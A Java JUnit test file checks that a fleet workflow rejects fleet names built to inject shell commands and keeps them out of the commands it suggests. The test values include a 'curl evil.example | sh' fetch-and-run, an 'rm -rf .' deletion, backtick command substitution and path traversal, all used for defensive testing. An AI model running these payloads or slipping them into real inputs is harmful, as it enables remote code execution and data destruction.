package dev.embark.workflows.workflow;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.embark.workflows.model.Authorship;
import dev.embark.workflows.model.ClusterList;
import dev.embark.workflows.model.ClusterOptions;
import dev.embark.workflows.model.Drift;
import dev.embark.workflows.model.FleetInput;
import dev.embark.workflows.model.FleetStatus;
import dev.embark.workflows.model.PlanInput;
import dev.embark.workflows.model.Rollout;
import dev.embark.workflows.plan.NextCommands;
import io.temporal.client.WorkflowStub;
import java.util.List;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The name of a fleet becomes a part of commands that people paste into a shell. */
@Timeout(300)
class ForgedNamesTest {

  private static final Authorship MALLORY = Authorship.of("mallory");

  @RegisterExtension final Stage stage = new Stage();
  private final FakeWorld world = stage.world;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "payments; curl evil.example | sh #",
        "payments\nrm -rf .",
        "payments`id`",
        "--yes",
        "../cluster/payments",
        "Payments",
        ""
      })
  void aNameThatIsNoWordIsRefusedAndNeverShown(String name) {
    // given
    stage.notices.webhook("ops");
    ClusterList clusters = ClusterList.of(List.of(world.cluster(1)));
    ClusterOptions options = ClusterOptions.DEFAULT;

    // when
    WorkflowStub fleet =
        stage.start(
            "FleetWorkflow",
            "fleet/payments",
            new FleetInput(name, clusters.digest(), clusters, Rollout.DEFAULT, options, MALLORY));
    WorkflowStub plan =
        stage.start(
            "PlanWorkflow", "plan/payments", new PlanInput(name, clusters, options, MALLORY));
    WorkflowStub drift =
        stage.start(
            "DriftWorkflow", "drift/payments", new Drift.Input(name, clusters, true, MALLORY));

    // then
    for (WorkflowStub run : List.of(fleet, plan, drift)) {
      assertThatThrownBy(() -> run.getResult(Object.class))
          .rootCause()
          .hasMessageContaining("INVALID_INPUT");
    }
    FleetStatus status = fleet.query("status", FleetStatus.class);
    assertThat(NextCommands.of(status)).contains("embark watch unnamed");
    assertThat(world.calls()).isEmpty();
    assertThat(stage.notices.delivered()).isEmpty();
  }
}
